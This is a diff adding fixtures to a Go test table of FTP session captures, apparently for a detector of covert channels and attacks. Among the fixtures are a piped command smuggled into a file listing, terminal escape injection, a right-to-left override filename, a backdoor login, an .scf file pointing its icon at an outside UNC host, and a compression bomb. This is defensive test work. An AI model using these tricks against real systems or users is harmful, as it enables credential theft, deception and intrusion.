@@ -18,6 +18,34 @@ var weakSigns = []struct {
 	name, rule string
 	play       func(*forge.Capture)
 }{
+	{"a REST for each word of a text", "preparations-are-used", session1(numberedLines(14, "> REST 18689839%02d\n< 350 ok\n"))},
+	{"a time of a file that changes again and again", "preparations-are-used", session1(numberedLines(14, "> MFMT 202603%02d120000 a\n< 213 ok\n"))},
+	{"a type that changes again and again", "preparations-are-used", session1(strings.Repeat("> TYPE A\n< 200 ok\n> TYPE I\n< 200 ok\n", 20))},
+	{"capital and small letters that carry bits", "control-carries-dialogue", session1("> nOOP\n< 200 ok\n> NoOp\n< 200 ok\n> NOoP\n< 200 ok\n> noOP\n< 200 ok")},
+	{"questions about encoded words", "control-carries-dialogue", session1(digests(6, "> HELP %s\n< 502 no\n"))},
+	{"answers with encoded words", "control-carries-dialogue", session1(digests(7, "> NOOP\n< 200 %s\n"))},
+	{"passwords of anonymous users that are data", "names-are-words", func(f *forge.Capture) {
+		for i := range 6 {
+			f.Control().Say("< 220 hi\n" + strings.TrimSuffix(digests(i+1, "> USER ftp\n< 331 and?\n> PASS %s\n< 230 in\n"), "\n")).Peer.Close()
+		}
+	}},
+	{"characters that nobody sees", "names-can-be-seen", session1("> STOR report\u200b\u200c\u200b\u200b.txt\n< 150 go on\n< 226 done")},
+	{"an ending that is turned around", "names-can-be-seen", session1("> STOR photo\u202egpj.exe\n< 150 go on\n< 226 done")},
+	{"a search for users", "no-sensitive-names", session1("> CWD ~ada\n< 550 denied\n> CWD ~bob\n< 550 no such user\n> CWD ~eve\n< 550 no such user\n> CWD ~root\n< 550 denied\n> CWD ~news\n< 550 denied\n> CWD ~games\n< 550 denied")},
+	{"a router that runs what it is sent", "no-sensitive-names", session1("> STOR x.auto.rsc\n< 150 go on\n< 226 done")},
+	{"an account of a controller's maker", "no-known-exploits", dialogue("< 220 ready\n> USER sysdiag\n< 331 and?\n> PASS x\n< 230 in")},
+	{"a greeting that orders a terminal", "reply-of-normal-length", dialogue("< 220 \x1b]2;x\x07\x1b[21t ready\n> QUIT\n< 221 bye")},
+	{"a folder that overflows the client", "reply-of-normal-length", session1("> PWD\n< 257 \"" + strings.Repeat("A", 324) + "\" is here")},
+	{"a tree without an end", "arguments-of-normal-length", session1(numberedLines(70, "> MKD d%[1]d\n< 257 ok\n> CWD d%[1]d\n< 250 ok\n"))},
+	{"a listing that orders a terminal", "no-climbing", moved("LIST", answerer, "-rw-r--r-- 1 0 0 5 Jan 01 2024 a\x1b]0;x\x07\x1b[2J.txt\r\n")},
+	{"a listing with a command", "no-climbing", moved("NLST", answerer, "|touch x\r\nb.txt\r\n")},
+	{"an icon at another host", "no-loot", moved("STOR @docs.scf", opener, "[Shell]\r\nCommand=2\r\nIconFile=\\\\203.0.113.66\\x\\a.ico\r\n")},
+	{"the keys that somebody pressed", "no-loot", moved("STOR log.txt", opener, "ada[TAB]Secr3t[ENTER]\r\ndear[BACKSPACE][BACKSPACE]hello\r\n")},
+	{"data that grows without an end", "no-floods", func(f *forge.Capture) {
+		t := f.Control().Say(hello).Say("> MODE Z\n< 200 ok")
+		move(t, 40000, "STOR a", "x\xda"+strings.Repeat("\x00", 1200))
+		t.Say(bye).Peer.Close()
+	}},
 	{"passwords that end in a hang-up", "no-guessing", func(f *forge.Capture) {
 		for i := range 12 {
 			f.Control().Say(fmt.Sprintf("< 220 hi\n> USER bob\n< 331 and?\n> PASS guess%d\n< 421 no, goodbye", i)).Peer.Close()
